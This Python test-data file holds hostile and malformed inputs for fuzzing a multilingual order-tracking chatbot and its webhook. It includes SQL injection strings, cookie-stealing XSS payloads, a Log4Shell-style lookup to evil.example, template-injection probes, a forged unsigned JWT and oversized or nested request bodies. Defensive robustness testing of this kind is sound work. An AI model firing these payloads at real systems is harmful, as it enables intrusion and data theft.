"""Hostile and broken input, by category. Texts are sent in conversations held in English, French
and Swahili, bare and inside a sentence of the language ("where is my order ..."); bodies are sent
to the REST webhook as raw bytes."""

from __future__ import annotations

HUGE = 100_000

GREETING = {"en": "hello, I need help", "fr": "bonjour, j'ai besoin d'aide", "sw": "habari, nahitaji msaada"}
FRAME = {"en": "where is my order {}", "fr": "où est ma commande {}", "sw": "oda yangu iko wapi {}"}
FILLER = {
    "en": "where is my order, it never arrived and I am waiting since weeks ",
    "fr": "où est ma commande, elle n'est jamais arrivée et j'attends depuis des semaines ",
    "sw": "oda yangu iko wapi, haijafika na nimesubiri kwa wiki nyingi ",
}

TEXTS: dict[str, list[str]] = {
    "empty": [""],
    "whitespace": ["   \n\t  ", "\u00a0\u2003\u3000", "\r\n\r\n"],
    "control": ["hello\x00world", "\x1b[31mred\x1b[0m", "\x07\x08\x7f\x1f", "8170034500000001\r\n\x00",
                "\ud800", "abc\udfffdef"],
    "zero_width": ["\u200b\u200c\u200d\u2060\ufeff", "8170\u200b0345\u200c0000\u200d0001",
                   "\ufeffcancel\u200b my\u200d order"],
    "rtl": ["\u202eredro ym lecnac", "أين طلبي 8170034500000001", "איפה ההזמנה שלי",
            "\u202bwhere is my order\u202c", "\u200fطلب\u200f 8170087700000001"],
    "emoji": ["😡😡😡😡😡", "🇫🇷🇰🇪🇬🇧", "👨‍👩‍👧‍👦", "📦 8170087700000006 ❓"],
    "sql_injection": ["8170034500000001' OR '1'='1", "'; DROP TABLE orders; --", "1 UNION SELECT email FROM customers --",
                      "\" OR \"\"=\"", "' OR 1=1 --@example.com", "8170034500000001; DELETE FROM orders"],
    "html_script": ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
                    "&lt;script&gt;alert(1)&lt;/script&gt;"],
    "template": ["{order_id}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "{customer_id} {contact}",
                 "%s%s%s%n", "{0.__class__.__mro__}", "#{7*7} <%= 7*7 %> ${7*7}",
                 "/inform{\"order_id\": \"8170034500000001\"}", "/restart"],
    "absurd_order_numbers": ["-1", "1e100", "9" * 20, "9" * 1000, "8170034500000001" * 4,
                             "٨١٧٠٠٣٤٥٠٠٠٠٠٠٠١", "８１７００３４５００００００１", "NaN", "0x1F", "8170034500000000"],
}
# Built per language (a 100 KB message of the language, and 100 KB without any language).
HUGE_TEXTS = {lang: [(FILLER[lang] * (HUGE // len(FILLER[lang]) + 1))[:HUGE], "A" * HUGE, "8" * HUGE,
                     ("<script>" * (HUGE // 8))[:HUGE]] for lang in FILLER}

# Raw request bodies: (label, bytes, content type). The answer must be a 4xx, never a 5xx.
BODIES: list[tuple[str, bytes, str]] = [
    ("invalid utf-8 in message", b'{"sender": "abuse-body", "message": "\xff\xfe\xfa"}', "application/json"),
    ("invalid utf-8 only", b"\xff\xfe\x00\x01", "application/json"),
    ("truncated json", b'{"sender": "abuse-body", "message": ', "application/json"),
    ("json array", b"[]", "application/json"),
    ("json null", b"null", "application/json"),
    ("json string", b'"hello"', "application/json"),
    ("json number", b"12345", "application/json"),
    ("no message", b'{"sender": "abuse-body"}', "application/json"),
    ("no sender", b'{"message": "hello"}', "application/json"),
    ("sender is a number", b'{"sender": 123, "message": "hello"}', "application/json"),
    ("sender is a list", b'{"sender": ["a"], "message": "hello"}', "application/json"),
    ("empty sender", b'{"sender": "", "message": "hello"}', "application/json"),
    ("message is a number", b'{"sender": "abuse-body", "message": 123}', "application/json"),
    ("message is a list", b'{"sender": "abuse-body", "message": ["a", "b"]}', "application/json"),
    ("message is an object", b'{"sender": "abuse-body", "message": {"text": "hi"}}', "application/json"),
    ("message is null", b'{"sender": "abuse-body", "message": null}', "application/json"),
    ("metadata is a string", b'{"sender": "abuse-body", "message": "hi", "metadata": "x"}', "application/json"),
    ("metadata token is a number", b'{"sender": "abuse-body", "message": "hi", "metadata": {"auth_token": 5}}',
     "application/json"),
    ("forged token", b'{"sender": "abuse-body", "message": "hi", "metadata": {"auth_token": '
     b'"eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."}}', "application/json"),
    ("sql in sender", b'{"sender": "x\'; DROP TABLE events; --", "message": "hi"}', "application/json"),
    ("deeply nested", b'{"sender": "abuse-body", "message": "hi", "metadata": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
     "application/json"),
    ("duplicate keys", b'{"sender": "abuse-body", "message": "hi", "message": "yes"}', "application/json"),
    ("form encoded", b"sender=abuse-body&message=hello", "application/x-www-form-urlencoded"),
    ("text/plain json", b'{"sender": "abuse-body", "message": "hello"}', "text/plain"),
    ("2 MB body", b'{"sender": "abuse-body", "message": "' + b"x" * 2_000_000 + b'"}', "application/json"),
]

# Other customers' orders vs numbers that do not exist: the answers must be identical.
OWN_CONTACT = {"en": "oliver.smith@example.co.uk", "fr": "amina.diallo@example.com", "sw": "0712 345 678"}
OTHERS_ORDER = {"en": "8170034500000006", "fr": "8170051200000008", "sw": "8170087700000003"}
NO_SUCH_ORDER = {"en": "8170034500000099", "fr": "8170051200000098", "sw": "8170087700000097"}
